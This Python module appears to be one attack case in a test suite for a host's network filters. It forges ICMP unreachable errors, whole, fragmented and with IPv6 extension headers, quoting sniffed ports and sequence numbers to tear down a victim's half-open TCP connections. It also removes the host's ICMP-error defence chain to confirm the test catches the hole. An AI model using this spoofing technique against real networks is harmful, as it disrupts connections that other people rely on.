"""A neighbour ends a victim's half-open connection by an error of ICMP.

It is given what it would have to guess: the ports of both ends and the number that the server begins with. It says that the victim cannot be
reached, of a packet that bears them, as a guest sees it and as it is on the host; whole, in fragments, and of a packet with headers before
the ports. The filter of a socket does not see such errors. Gained: a connection that is refused before it is whole. In the way: no true
error names our sockets, so the host drops those that do, and what could hide that they do (chain `icmp_errors`).
"""

import re
import struct
import time

import attack
import rules
import space
import wire
from attack import Outcome
from attacks.lib import errors
from field import METADATA, Connection, Field
from host import Host

TRIES = 4
# Keeps back the word by which a guest's own kernel makes a connection whole; its first request does too.
SLOW = ("add table inet slow; add chain inet slow out { type filter hook output priority 0; }; "
        "add rule inet slow out tcp dport 80 tcp flags & (syn | ack | psh) == ack drop")


def dressed(link: tuple[bytes, bytes], outer: tuple[bytes, bytes], inner: tuple[bytes, bytes], begin: bytes, number: int) -> list[bytes]:
    """An error about a packet that begins so, in each dress."""
    plain = errors.message(errors.UNREACHABLE[4 if len(inner[0]) == 4 else 6], outer, errors.about(inner, begin))
    found = [errors.frame(link, outer, plain), *errors.fragments(link, outer, plain, 8, number), *errors.fragments(link, outer, plain, 48, number + 1)]
    if len(inner[0]) == 4:
        return found
    for following, header in ((errors.AUTHENTICATION, struct.pack("!BBHIII", wire.TCP, 2, 0, 1, 1, 1)[:16]),
                              (wire.DESTINATION_OPTIONS, bytes([wire.TCP, 0, 1, 4, 0, 0, 0, 0]))):
        behind = errors.message(errors.UNREACHABLE[6], outer, errors.about(inner, begin, header, following))
        found.append(errors.frame(link, outer, behind))
    return found


class Attack(attack.Attack):
    """The forger hears victim-6, which is slow to confirm."""

    hosts = ("address", "redirect")
    spies = ("tap-6",)
    victims = slice(0, -1)
    proofs = (("address", 4), ("redirect", 4), ("redirect", 6))
    numbers: tuple[int, ...] = ()

    def prepare(self, host: Host) -> None:
        """Finds the sockets' ports."""
        found = {int(match[1]) for rule in rules.listed() if (match := re.search(r"tcp dport set (\d+)", rule.text))}
        self.numbers = tuple(sorted(found))

    dressed = staticmethod(dressed)

    def attack(self, field: Field) -> None:
        """An error about each SYN-ACK, for every port that it may have on the host."""
        card, heard, victim, sent = wire.Wire(), field.spies[0], field.own(field.victims[-1]), 0
        own = wire.ip({4: "192.0.2.1", 6: "2001:db8:2::1"}[field.family])
        field.ready()
        while field.goes_on():
            for segment in heard.segments(0.05):
                if segment.destination != victim or segment.flags & (wire.SYN | wire.ACK) != wire.SYN | wire.ACK:
                    continue
                for source in (field.metadata, own):
                    for number in (80, *self.numbers):
                        begin = struct.pack("!HHI", number, segment.ports[1], segment.sequence) + bytes(12)
                        card.send(*self.dressed((field.bridge, field.me.link), (field.own(), own), (source, victim), begin, 2 * sent))
                        sent += 1
            for _ in card.received(0):
                pass
        field.report["sent"] = sent

    def during(self, host: Host, outcome: Outcome) -> None:
        """Connects as victim-6, and asks a moment later."""
        name, statuses = host.victims[-1].name, []
        space.call("ip", "netns", "exec", name, "nft", SLOW)
        for _ in range(TRIES):
            with space.inside(name):
                connection = Connection(METADATA[outcome.family])
            time.sleep(0.3)
            statuses.append(connection.ask()[0])
            connection.close()
        space.call("ip", "netns", "exec", name, "nft", "delete table inet slow")
        outcome.host_report["statuses"] = statuses

    def gained(self, outcome: Outcome) -> str | None:
        """Connections that were refused."""
        if outcome.forger["sent"] < TRIES:
            raise space.Failure(f"only {outcome.forger['sent']} errors were sent: the attack does not work")
        refused = sum(status != 200 for status in outcome.host_report["statuses"])
        if refused:
            return f"{refused} of victim-6's {TRIES} half-open connections ended"
        return f"victims lost {outcome.lost} requests" if outcome.lost else None

    def weaken(self, host: Host) -> None:
        """Lets every error in."""
        rules.remove(r".", "inet", "icmp_errors")
